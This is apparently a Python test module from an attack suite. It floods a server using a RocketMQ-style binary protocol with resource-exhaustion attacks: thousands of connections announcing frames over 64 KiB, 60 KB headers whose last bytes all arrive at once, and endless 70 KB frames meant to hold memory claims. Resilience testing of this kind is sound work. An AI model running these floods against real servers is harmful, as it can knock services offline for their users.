"""Attacks by frames of more than 64 KiB and by long headers, many of which end at the same moment."""

import contextlib
import struct
import threading
from collections.abc import Callable
from functools import partial

from tests.attacks.crowds import allow_connections
from tests.attacks.peers import Target, Wire, announcement, opened, wait_for_the_end

__all__ = ["end_binary_headers_at_once", "keep_claims_of_odd_headers", "leave_announced_frames_at_once"]

ANNOUNCED_BYTES = 65_600
"""A frame that needs a claim on the budget."""
FIELDS = 1_000
"""As many as a binary header may have."""
PAUSE_SECONDS = 1.0
REFUSED_SECONDS = 8.0


def leave_announced_frames_at_once(target: Target) -> None:
    """Announce frames over 9,000 connections, and close all of them after a while, again and again."""
    allow_connections()
    while True:
        _over_each(target, 9_000, [partial(Wire.send, data=announcement(ANNOUNCED_BYTES))], pause=6.0)


def end_binary_headers_at_once(target: Target) -> None:
    """Send all but the last byte of a header of 60 KB over 800 connections, then all last bytes."""
    allow_connections()
    data = _binary_header(b"".join(_field(f"k{index:05}".encode(), b"v" * 48) for index in range(FIELDS)))
    while True:
        _over_each(
            target, 800, [partial(Wire.send, data=data[:-1]), partial(Wire.send, data=data[-1:])], pause=1.0
        )


def keep_claims_of_odd_headers(target: Target) -> None:
    """Send frames of 70 KB, with headers for the lenient reader, one after the other over one connection."""
    fields = ",".join(f"'k{index}':'v'" for index in range(600))
    header = f"{{'code':105,'language':'JAVA','version':513,'opaque':1,'flag':0,'extFields':{{{fields}}}}}".encode()
    body = b"y" * 60_000
    data = struct.pack(">II", 4 + len(header) + len(body), len(header)) + header + body
    with Wire(target.port) as wire:
        wire.socket.settimeout(REFUSED_SECONDS)
        with contextlib.suppress(OSError):
            while True:
                wire.send(data[:1_000])
                threading.Event().wait(0.001)  # a claim is for a frame that comes in parts
                wire.ask(data[1_000:])
        wait_for_the_end()


def _over_each(target: Target, count: int, steps: list[Callable[[Wire], None]], *, pause: float) -> None:
    """Open connections, take each step over all of them with a pause after it, and close them."""
    with opened(target.port, target.times(count)) as wires:
        for step in steps:
            for wire in wires:
                with contextlib.suppress(OSError):
                    step(wire)
            threading.Event().wait(pause)


def _field(name: bytes, value: bytes) -> bytes:
    return struct.pack(">h", len(name)) + name + struct.pack(">i", len(value)) + value


def _binary_header(fields: bytes) -> bytes:
    """A frame of a lookup whose binary header has these ext fields and no remark."""
    header = struct.pack(">hbhiiii", 105, 0, 513, 1, 0, 0, len(fields)) + fields
    return struct.pack(">II", 4 + len(header), 1 << 24 | len(header)) + header
